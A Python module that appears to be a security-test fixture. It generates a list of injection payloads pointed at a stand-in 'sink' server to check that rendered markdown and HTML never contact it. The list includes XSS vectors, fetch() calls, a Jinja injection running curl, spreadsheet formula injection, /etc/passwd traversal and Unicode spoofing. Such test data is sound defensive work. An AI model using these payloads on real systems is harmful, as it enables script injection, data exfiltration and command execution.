"""What a stranger could write into a document, a name or a question to make a browser load, run or show something.

``{sink}`` is the address of a server that must never be asked for anything.
"""

from __future__ import annotations

__all__ = ["payloads"]

_PAYLOADS = r"""
![a]({sink}/md-image)
![a]({sink}/md-image "title")
![a](<{sink}/md-angle>)
![ref-full][evil]
![evil][]
![evil]
[evil]: {sink}/md-reference
[link]({sink}/md-link)
[link](javascript:alert(1))
[link](JaVaScRiPt:alert(1))
[link](data:text/html,<script>alert(1)</script>)
[link](vbscript:msgbox(1))
[link](//{host}/protocol-relative)
[![nested]({sink}/md-nested)]({sink}/md-nested-link)
<{sink}/md-autolink>
<someone@evil.example>
{sink}/bare-url
www.evil.example/bare
someone@evil.example
mailto:someone@evil.example
tel:+15550100
ftp://evil.example/file
# Heading with ![a]({sink}/md-heading)
> quote ![a]({sink}/md-quote)
- list ![a]({sink}/md-list)
| a | b |\n|---|---|\n| ![a]({sink}/md-table) | [x]({sink}/md-cell) |
```html\n<img src="{sink}/md-fence">\n```
`<img src="{sink}/md-code">`
[^1]: {sink}/footnote
<img src="{sink}/html-img">
<img src={sink}/html-unquoted>
<IMG SRC="{sink}/html-upper">
<img src=x onerror="fetch('{sink}/onerror')">
<img src=x onerror=alert(1)>
<img srcset="{sink}/srcset 1x, {sink}/srcset2 2x">
<picture><source srcset="{sink}/picture"><img></picture>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img loading=eager src="{sink}/loading">
<img lowsrc="{sink}/lowsrc" dynsrc="{sink}/dynsrc">
<input type=image src="{sink}/input-image">
<script>fetch('{sink}/script')</script>
<script src="{sink}/script-src"></script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<svg onload="fetch('{sink}/svg-onload')"></svg>
<svg><image href="{sink}/svg-image"/></svg>
<svg><image xlink:href="{sink}/svg-xlink"/></svg>
<svg><use href="{sink}/svg-use#a"/></svg>
<svg><style>@import url({sink}/svg-style);</style></svg>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><feImage href="{sink}/svg-feimage"/></svg>
<math><mtext><img src="{sink}/math"></mtext></math>
<math><maction actiontype="statusline#{sink}/x" xlink:href="javascript:alert(1)">x</maction></math>
<iframe src="{sink}/iframe"></iframe>
<iframe srcdoc="<img src={sink}/srcdoc>"></iframe>
<object data="{sink}/object"></object>
<embed src="{sink}/embed">
<video src="{sink}/video" autoplay poster="{sink}/poster"></video>
<audio src="{sink}/audio" autoplay></audio>
<video><source src="{sink}/video-source"></video>
<track src="{sink}/track">
<link rel="stylesheet" href="{sink}/stylesheet">
<link rel="prefetch" href="{sink}/prefetch">
<link rel="preload" as="image" href="{sink}/preload">
<link rel="dns-prefetch" href="//evil.example">
<meta http-equiv="refresh" content="0;url={sink}/meta-refresh">
<base href="{sink}/base/">
<style>@import url('{sink}/style-import');</style>
<style>body{background:url({sink}/style-body)}</style>
<style>@font-face{font-family:x;src:url({sink}/font)}*{font-family:x}</style>
<div style="background:url({sink}/style-attribute)">x</div>
<div style="background-image:image-set('{sink}/image-set' 1x)">x</div>
<body background="{sink}/body-background" onload=alert(1)>
<table background="{sink}/table-background"><tr><td background="{sink}/td">x</td></tr></table>
<form action="{sink}/form"><button autofocus onfocus=alert(1)>x</button></form>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<a href="{sink}/html-link">x</a>
<a href="javascript:alert(1)">x</a>
<a href="x" ping="{sink}/ping">x</a>
<area href="{sink}/area">
<textarea autofocus onfocus=alert(1)></textarea>
<noscript><p title="</noscript><img src={sink}/noscript>">
<template><img src="{sink}/template"></template>
<x-element onclick=alert(1) tabindex=0 autofocus onfocus=alert(1)>
<!--><img src="{sink}/comment">-->
<![CDATA[<img src="{sink}/cdata">]]>
<?xml-stylesheet href="{sink}/xml-stylesheet"?>
&lt;img src="{sink}/entities"&gt;
&#60;img src="{sink}/numeric-entities"&#62;
&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;
%3Cimg%20src%3D%22{sink}/percent%22%3E
\x3cimg src="{sink}/escapes"\x3e
"><img src="{sink}/break-attribute">
'><img src='{sink}/break-single'>
</div></div><img src="{sink}/break-out">
</script><img src="{sink}/break-script">
</style><img src="{sink}/break-style">
</textarea><img src="{sink}/break-textarea">
$\href{{sink}/latex-href}{x}$
$\includegraphics{{sink}/latex-image}$
$$\htmlStyle{background:url({sink}/latex-style)}{x}$$
$\url{{sink}/latex-url}$
:material/bomb: :streamlit: :smile: :red[red] :blue-background[x] :small[x]
:red[![a]({sink}/directive-image)]
:blue-badge[[x]({sink}/directive-link)]
{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {sink}/template-injection
{% import os %}{{ os.system('curl {sink}/jinja') }}
javascript:fetch('{sink}/javascript-text')
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
=HYPERLINK("{sink}/sheet-hyperlink","x")
=IMAGE("{sink}/sheet-image")
@SUM(1+1)*cmd|' /C calc'!A0
../../../etc/passwd
C:\evil\..\..\x.png
/etc/passwd
file:///etc/passwd
{"__proto__": {"polluted": true}}
<img src="{sink}/null%00.png">
<img/src="{sink}/slash"/onerror=alert(1)>
<img	src="{sink}/tab">
<a href="&#106;avascript:alert(1)">x</a>
<svg/onload=alert`1`>
<iframe src="javascript:alert(1)">
<b onmouseover=alert(1)>hover</b>
"""


def payloads(host: str) -> list[str]:
    """Return every payload, pointing at a server at ``host``, line by line."""
    lines = [line.replace("\\n", "\n") for line in _PAYLOADS.strip().splitlines()]
    made = [line.replace("{sink}", f"http://{host}").replace("{host}", host) for line in lines]
    unseen = [
        "\u202egpj.exe\u2066 reversed", "a\u200bb\u200cc\u200dd\u2060e zero width", "\u200f\u061c marks of direction",
        "\U000e0041\U000e0042 tags", f"\x00<img src=http://{host}/nul>", f"\x1b[31m<img src=http://{host}/escape>",
        f"\u202e<b>{made[0]}",
    ]  # fmt: skip
    return [*made, *unseen]
